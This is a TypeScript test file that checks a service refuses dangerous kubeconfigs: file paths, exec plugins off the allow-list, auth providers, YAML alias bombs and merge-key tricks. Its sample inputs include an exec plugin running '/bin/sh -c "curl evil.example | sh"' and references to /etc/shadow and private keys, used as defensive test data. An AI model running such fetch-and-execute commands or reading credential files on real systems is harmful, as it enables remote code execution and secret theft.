// The kubeconfig rules (core/kubeconfig-rules.ts): each refused field and YAML feature, alone and through
// PUT /admin/clusters/{id}/driver (400 naming the field, nothing stored), an allow-listed exec plugin, JSON
// kubeconfigs, and a bad kubeconfig stored before the rules existed, which the worker refuses to hand to helm.
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkKubeconfig, KubeconfigRejected, type KubeconfigPolicy } from '../../core/kubeconfig-rules.js'
import { ConfigError, loadConfig } from '../../core/config.js'
import type { SecretBox } from '../../core/secrets.js'
import { call, freshSubscription, registerCluster } from '../helpers/harness.js'
import { putExtension, startHelmHarness, type FakeHelm, type HelmHarness } from './support.js'

const SECRET = 'kubeconfig-credential-never-quoted'
const NO_EXEC: KubeconfigPolicy = { execAllowlist: [] }

/** A kubeconfig whose first user carries `user` (YAML lines indented under `user:`), plus a token that is a secret. */
function withUser(...userLines: string[]): string {
  return [
    'apiVersion: v1',
    'kind: Config',
    'clusters:',
    '- name: c1',
    '  cluster:',
    '    server: https://10.1.2.3:6443',
    `    certificate-authority-data: ${Buffer.from(SECRET).toString('base64')}`,
    'users:',
    '- name: admin',
    '  user:',
    `    token: ${SECRET}`,
    ...userLines.map((line) => `    ${line}`),
    'contexts:',
    '- name: ctx',
    '  context: {cluster: c1, user: admin, namespace: default}',
    'current-context: ctx',
    '',
  ].join('\n')
}

function rejection(text: string, policy = NO_EXEC): KubeconfigRejected {
  try {
    checkKubeconfig(text, policy)
  } catch (error) {
    expect(error).toBeInstanceOf(KubeconfigRejected)
    const rejected = error as KubeconfigRejected
    // Never a value from the kubeconfig in what is said about it.
    expect(rejected.message).not.toContain(SECRET)
    expect(rejected.message).not.toMatch(/\/etc\/|\/bin\/sh|gcloud|evil/)
    return rejected
  }
  throw new Error('the kubeconfig was accepted')
}

const EXEC_SH = 'exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "curl evil.example | sh"], env: [{name: X, value: evil}]}'

const refusedFields: [string, string, string, RegExp][] = [
  [
    'certificate-authority',
    'clusters:\n- name: c1\n  cluster: {server: "https://x", certificate-authority: /etc/shadow}\n',
    'kubeconfig.clusters[0].cluster.certificate-authority',
    /names a file on the worker host.*'certificate-authority-data'/,
  ],
  ['client-certificate', withUser('client-certificate: /etc/ssl/private/admin.crt'), 'kubeconfig.users[0].user.client-certificate', /'client-certificate-data'/],
  ['client-key', withUser('client-key: /etc/ssl/private/admin.key'), 'kubeconfig.users[0].user.client-key', /'client-key-data'/],
  ['tokenFile', withUser('tokenFile: /etc/shadow'), 'kubeconfig.users[0].user.tokenFile', /names a file.*'token'/],
  ['token-file', withUser('token-file: /etc/shadow'), 'kubeconfig.users[0].user.token-file', /names a file.*'token'/],
  ['auth-provider', withUser('auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud}}'), 'kubeconfig.users[0].user.auth-provider', /auth provider plugin/],
  ['exec', withUser(EXEC_SH), 'kubeconfig.users[0].user.exec', /runs a command on the worker host.*KUBECONFIG_EXEC_ALLOWLIST/],
  ['a spelling a decoder might match', withUser('Exec: {command: /bin/sh}'), 'kubeconfig.users[0].user.Exec', /not a kubeconfig field this service accepts/],
  ['an unknown field', 'clusters:\n- name: c1\n  cluster: {server: "https://x"}\nsurprise: /etc/shadow\n', 'kubeconfig.surprise', /not a kubeconfig field/],
  [
    'a wrongly typed field',
    'clusters:\n- name: c1\n  cluster: {server: "https://x", insecure-skip-tls-verify: "yes"}\n',
    'kubeconfig.clusters[0].cluster.insecure-skip-tls-verify',
    /must be true or false/,
  ],
  ['a second user with exec', withUser().replace('contexts:', `- name: second\n  user:\n    ${EXEC_SH}\ncontexts:`), 'kubeconfig.users[1].user.exec', /runs a command/],
]

describe('kubeconfig rules', () => {
  it('accepts inline material and returns canonical JSON of it', () => {
    const canonical = checkKubeconfig(withUser('client-certificate-data: Y2VydA==', 'client-key-data: a2V5'), NO_EXEC)
    expect(JSON.parse(canonical)).toMatchObject({
      clusters: [{ name: 'c1', cluster: { server: 'https://10.1.2.3:6443' } }],
      users: [{ name: 'admin', user: { token: SECRET, 'client-certificate-data': 'Y2VydA==', 'client-key-data': 'a2V5' } }],
      'current-context': 'ctx',
    })
    const basic = withUser('username: admin', 'password: hunter2').replace(`    token: ${SECRET}\n`, '')
    expect(JSON.parse(checkKubeconfig(basic, NO_EXEC)).users[0].user).toEqual({ username: 'admin', password: 'hunter2' })
    const cluster = [
      'clusters:',
      '- name: c1',
      '  cluster: {server: "https://x:6443", insecure-skip-tls-verify: true, tls-server-name: api.internal, proxy-url: "socks5://proxy:1080", disable-compression: false}',
      '  extensions: null',
      'preferences: {}',
      'extensions: [{name: vendor, extension: {anything: [1, 2]}}]',
    ].join('\n')
    expect(() => checkKubeconfig(cluster, NO_EXEC)).toThrow(/'kubeconfig.clusters\[0\].extensions' is not a kubeconfig field/)
    expect(JSON.parse(checkKubeconfig(cluster.replace('  extensions: null\n', ''), NO_EXEC)).clusters[0].cluster['proxy-url']).toBe('socks5://proxy:1080')
  })

  it('accepts a JSON kubeconfig', () => {
    const json = JSON.stringify({ apiVersion: 'v1', kind: 'Config', clusters: [{ name: 'c', cluster: { server: 'https://x' } }], users: [{ name: 'u', user: { token: SECRET } }] })
    expect(JSON.parse(checkKubeconfig(json, NO_EXEC))).toEqual(JSON.parse(json))
  })

  it.each(refusedFields)('refuses %s, naming the field', (_name, text, target, message) => {
    const rejected = rejection(text)
    expect(rejected.target).toBe(target)
    expect(rejected.message).toContain(`'${target}'`)
    expect(rejected.message).toMatch(message)
  })

  it('runs exec only for a command on the allow-list, compared exactly', () => {
    const gke = withUser('exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: gke-gcloud-auth-plugin, installHint: "install it", provideClusterInfo: true, interactiveMode: Never}')
    expect(rejection(gke).target).toBe('kubeconfig.users[0].user.exec')
    expect(JSON.parse(checkKubeconfig(gke, { execAllowlist: ['kubelogin', 'gke-gcloud-auth-plugin'] })).users[0].user.exec.command).toBe('gke-gcloud-auth-plugin')
    // A path, or the same name elsewhere, is another command.
    expect(rejection(gke.replace('command: gke-gcloud-auth-plugin', 'command: /tmp/gke-gcloud-auth-plugin'), { execAllowlist: ['gke-gcloud-auth-plugin'] }).target).toBe(
      'kubeconfig.users[0].user.exec',
    )
    // An allowed exec's own fields are still checked.
    expect(rejection(gke.replace('interactiveMode: Never', 'shell: /bin/sh'), { execAllowlist: ['gke-gcloud-auth-plugin'] }).target).toBe('kubeconfig.users[0].user.exec.shell')
  })

  const hidden: [string, string, RegExp][] = [
    ['an alias bomb', 'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nclusters: [*c]\n', /anchors or aliases/],
    ['a merge key hiding exec', `x: &evil {${EXEC_SH}}\nclusters:\n- name: c1\n  cluster: {server: "https://x"}\nusers:\n- name: u\n  user:\n    <<: *evil\n`, /anchors or aliases/],
    ['an explicit tag', 'clusters:\n- name: c1\n  cluster: {server: !!str https://x}\n', /explicit YAML tags/],
    ['several documents', 'clusters:\n- name: c1\n  cluster: {server: "https://x"}\n---\nusers:\n- name: u\n  user: {exec: {command: /bin/sh}}\n', /several YAML documents/],
    ['a list at the root', '- clusters: []\n', /not a YAML or JSON mapping/],
    ['a scalar at the root (a path)', '/home/me/.kube/config', /not its path/],
    ['no clusters', `users:\n- name: u\n  user: {token: ${SECRET}}\n`, /no 'clusters' section/],
    [
      'duplicate keys',
      `clusters:\n- name: c1\n  cluster: {server: "https://x"}\nusers:\n- name: u\n  user:\n    token: ${SECRET}\n    token: ${SECRET}\n`,
      /not valid YAML or JSON \(DUPLICATE_KEY at line \d+, column \d+\)/,
    ],
    ['broken YAML quoting a secret', `clusters: [\n  token: ${SECRET}: x\n`, /not valid YAML or JSON \([A-Z_]+( at line \d+, column \d+)?\)/],
    ['an empty document', '   \n', /empty/],
  ]

  it.each(hidden)('refuses %s', (_name, text, message) => {
    const rejected = rejection(text)
    expect(rejected.target).toBe('kubeconfig')
    expect(rejected.message).toMatch(message)
  })

  it('reads KUBECONFIG_EXEC_ALLOWLIST and HELM_ENV_PASSTHROUGH', () => {
    const config = loadConfig({ KUBECONFIG_EXEC_ALLOWLIST: ' kubelogin, aws ,,gke-gcloud-auth-plugin', HELM_ENV_PASSTHROUGH: 'AWS_PROFILE,AZURE_CONFIG_DIR' })
    expect(config.kubeconfigExecAllowlist).toEqual(['kubelogin', 'aws', 'gke-gcloud-auth-plugin'])
    expect(config.helmEnvPassthrough).toEqual(['AWS_PROFILE', 'AZURE_CONFIG_DIR'])
    expect(loadConfig({}).kubeconfigExecAllowlist).toEqual([])
    expect(() => loadConfig({ HELM_ENV_PASSTHROUGH: 'KUBECONFIG' })).toThrow(ConfigError)
    expect(() => loadConfig({ HELM_ENV_PASSTHROUGH: 'HELM_KUBETOKEN' })).toThrow(/only the cluster's kubeconfig decides/)
    expect(() => loadConfig({ HELM_ENV_PASSTHROUGH: 'A B' })).toThrow(/not a comma-separated list of variable names/)
    expect(() => loadConfig({ KUBECONFIG_EXEC_ALLOWLIST: 'sh -c' })).toThrow(/KUBECONFIG_EXEC_ALLOWLIST/)
  })
})

describe('kubeconfig rules over HTTP and in the worker', () => {
  let h: HelmHarness
  let fake: FakeHelm
  let box: SecretBox

  beforeAll(async () => {
    h = await startHelmHarness({ env: { KUBECONFIG_EXEC_ALLOWLIST: 'kubelogin' } })
    ;({ fake, box } = h)
  })
  afterAll(() => h?.close())

  const driverPath = (cluster: string) => `/admin/clusters/${encodeURIComponent(cluster)}/driver`

  async function storedKubeconfig(cluster: string): Promise<string | null> {
    const client = new pg.Client({ connectionString: h.databaseUrl })
    await client.connect()
    try {
      const { rows } = await client.query<{ kubeconfig_sealed: string | null }>('SELECT kubeconfig_sealed FROM clusters WHERE id_key = $1', [cluster.toLowerCase()])
      return rows[0]!.kubeconfig_sealed
    } finally {
      await client.end()
    }
  }

  it('refuses the exec-through-kubeconfig reproducer with 400 naming the field, and stores nothing', async () => {
    const cluster = await registerCluster(h, freshSubscription())
    const response = await call<{ error: { code: string; message: string; target: string } }>(h, 'PUT', driverPath(cluster), { driver: 'helm', kubeconfig: withUser(EXEC_SH) })
    expect(response.status).toBe(400)
    expect(response.body.error).toMatchObject({ code: 'InvalidRequestContent', target: 'kubeconfig.users[0].user.exec' })
    expect(JSON.stringify(response.body)).not.toMatch(/bin\/sh|evil|kubeconfig-credential/)
    expect((await call(h, 'GET', driverPath(cluster))).body).toMatchObject({ driver: 'simulated', kubeconfigSet: false })
    expect(await storedKubeconfig(cluster)).toBeNull()
  })

  it.each(refusedFields.map(([name, text, target]) => [name, text, target] as const))('refuses %s over HTTP', async (_name, text, target) => {
    const cluster = await registerCluster(h, freshSubscription())
    const response = await call<{ error: { code: string; target: string } }>(h, 'PUT', driverPath(cluster), { driver: 'helm', kubeconfig: text })
    expect(response.status).toBe(400)
    expect(response.body.error).toMatchObject({ code: 'InvalidRequestContent', target })
    expect(await storedKubeconfig(cluster)).toBeNull()
  })

  it('accepts a JSON kubeconfig and one whose exec command is allow-listed', async () => {
    const cluster = await registerCluster(h, freshSubscription())
    const json = JSON.stringify({ apiVersion: 'v1', kind: 'Config', clusters: [{ name: 'c', cluster: { server: 'https://x' } }], users: [{ name: 'u', user: { token: SECRET } }] })
    expect((await call(h, 'PUT', driverPath(cluster), { driver: 'helm', kubeconfig: json })).body).toMatchObject({ driver: 'helm', kubeconfigSet: true })
    const kubelogin = withUser('exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: kubelogin, args: [get-token, --login, azurecli]}')
    expect((await call(h, 'PUT', driverPath(cluster), { driver: 'helm', kubeconfig: kubelogin })).body).toMatchObject({ driver: 'helm', kubeconfigSet: true })
    expect(box.open((await storedKubeconfig(cluster))!)).toBe(kubelogin)
  })

  it('fails an operation at once, without running helm, when the stored kubeconfig breaks the rules', async () => {
    const sub = freshSubscription()
    const cluster = await registerCluster(h, sub)
    // Stored before the rules existed: written straight into Postgres, sealed with the service's key.
    const client = new pg.Client({ connectionString: h.databaseUrl })
    await client.connect()
    try {
      await client.query("UPDATE clusters SET driver = 'helm', kubeconfig_sealed = $2 WHERE id_key = $1", [cluster.toLowerCase(), box.seal(withUser(EXEC_SH))])
    } finally {
      await client.end()
    }
    const callsBefore = fake.log().length
    const result = await putExtension(h, sub, 'flux', { extensionType: 'microsoft.flux' })
    expect(result.status).toBe('Failed')
    expect(result.error).toMatchObject({ code: 'KubeconfigNotAllowed' })
    expect(result.error!.message).toContain("'kubeconfig.users[0].user.exec' runs a command on the worker host")
    expect(result.error!.message).not.toMatch(/bin\/sh|evil|Retrying|attempted/)
    expect(fake.log().slice(callsBefore)).toEqual([])
    const client2 = new pg.Client({ connectionString: h.databaseUrl })
    await client2.connect()
    try {
      const { rows } = await client2.query<{ attempts: number }>("SELECT attempts FROM operations WHERE resource_id_key LIKE $1 || '%'", [`/subscriptions/${sub}/`])
      expect(rows.map((row) => row.attempts)).toEqual([1])
    } finally {
      await client2.end()
    }
  })
})
